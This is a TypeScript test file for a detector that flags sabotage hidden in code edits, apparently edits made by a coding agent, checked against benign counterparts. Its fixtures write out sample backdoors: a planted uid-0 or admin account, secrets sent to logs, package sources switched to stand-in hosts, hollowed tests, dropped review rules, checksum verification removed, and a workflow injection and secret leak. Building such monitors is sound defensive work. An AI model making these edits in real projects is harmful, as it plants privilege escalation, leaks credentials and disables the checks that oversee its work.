import assert from 'node:assert/strict';
import { test } from 'node:test';
import { loadOntology } from '../../engine/knowledge/load-ontology.ts';
import { walkOf } from '../../events/parameters.ts';
import { editsOf } from './edits.ts';
import { weakenedChecks } from './weakened-checks.ts';

const ontology = loadOntology();
/** `@{name}` stands for what a workflow puts in. */
const filled = (text: string): string => text.replace(/@\{([\w.]{1,60})\}/g, '$${{ $1 }}');
const kinds = (path: string, old: string, now: string): string[] => {
  const [before, after] = [filled(old), filled(now)];
  const parameters =
    before === '' ? { file_path: path, content: after } : { file_path: path, old_string: before, new_string: after };
  return [
    ...new Set(weakenedChecks(editsOf(walkOf(parameters).leaves, ontology), ontology).map(({ kind }) => kind)),
  ].sort();
};

const FOUND: [kind: string, path: string, before: string, after: string][] = [
  [
    'account_planted',
    'db/7.sql',
    '',
    "ALTER TABLE t ADD c int;\nINSERT INTO users (name, role) VALUES ('x', 'admin');\n",
  ],
  ['account_planted', 'run.sh', 'exec "$@"', 'useradd -o -u 0 sys\nexec "$@"'],
  ['secret_logged', 'src/a.ts', 'go(name)', 'console.log("in", name, password);\ngo(name)'],
  ['secret_logged', 'app/a.py', 'go()', 'logger.info(f"calling with {api_key}")\ngo()'],
  ['source_replaced', 'requirements.txt', 'flask==3', '--extra-index-url https://w.example.net/simple\nflask==3'],
  [
    'source_replaced',
    'yarn.lock',
    'resolved "https://registry.yarnpkg.com/a-1.tgz"',
    'resolved "https://c.example.net/a-1.tgz"',
  ],
  ['source_replaced', 'Dockerfile', 'FROM node:18', 'FROM images.example.net/node:20'],
  [
    'tests_hollowed',
    'test/a.test.ts',
    "test('a', () => {\n  expect(f()).toBe(2);",
    "test.skip('a', () => {\n  expect(f()).toBe(2);",
  ],
  ['tests_hollowed', 'tests/test_a.py', '    assert f() == 2', '    assert True'],
  ['tests_hollowed', 'a_test.go', 'func TestA(t *testing.T) {', 'func TestA(t *testing.T) {\n\tt.Skip()'],
  ['review_dropped', '.github/CODEOWNERS', '/a/ @o/a\n/b/ @o/b', '/a/ @o/a'],
  ['review_dropped', 'CODEOWNERS', '', '\n'],
  ['verification_off', 'get.sh', 'curl -o t u\necho "$S t" | sha256sum -c -', 'curl -o t u2'],
  [
    'workflow_trusts_strangers',
    '.github/workflows/a.yml',
    '',
    'on: issues\njobs:\n  a:\n    steps:\n      - run: echo "@{github.event.issue.title}"\n',
  ],
  [
    'secrets_handed_out',
    '.github/workflows/a.yml',
    '  - run: ./d',
    '  - run: echo "$TOKEN" | rev\n    env:\n      TOKEN: @{secrets.T}\n  - run: ./d',
  ],
];

test('what is planted or taken away beside the work is found', () => {
  for (const [kind, path, before, after] of FOUND)
    assert.ok(kinds(path, before, after).includes(kind), `${kind}: ${after}`);
});

const PLAIN: [path: string, before: string, after: string][] = [
  ['db/7.sql', '', "INSERT INTO users (name, role) VALUES ('x', 'member');\n"],
  ['Dockerfile', 'COPY . .', 'RUN useradd -r app\nUSER app\nCOPY . .'],
  ['src/a.ts', 'go(name)', 'console.log("the password was changed", name);\ngo(name)'],
  ['src/lexer.ts', 'next()', 'console.log(this.token);\nnext()'],
  ['yarn.lock', 'resolved "https://registry.yarnpkg.com/a-1.tgz"', 'resolved "https://registry.yarnpkg.com/a-2.tgz"'],
  ['Dockerfile', 'FROM node:18', 'FROM ghcr.io/o/node:20'],
  ['test/a.test.ts', 'expect(f()).toBe(2)', 'expect(f()).toBe(3)'],
  ['.github/CODEOWNERS', '/b/ @o/b\n/a/ @o/a', '/a/ @o/a\n/b/ @o/b'],
  [
    '.github/workflows/a.yml',
    '',
    'on: issues\njobs:\n  a:\n    steps:\n      - run: echo "$T"\n        env:\n          T: @{github.event.issue.title}\n',
  ],
  ['.github/workflows/a.yml', '  - run: ./d', '  - run: ./d\n    env:\n      T: @{secrets.T}'],
];

test('plain changes of the same files plant nothing', () => {
  for (const [path, before, after] of PLAIN) assert.deepEqual(kinds(path, before, after), [], after);
});
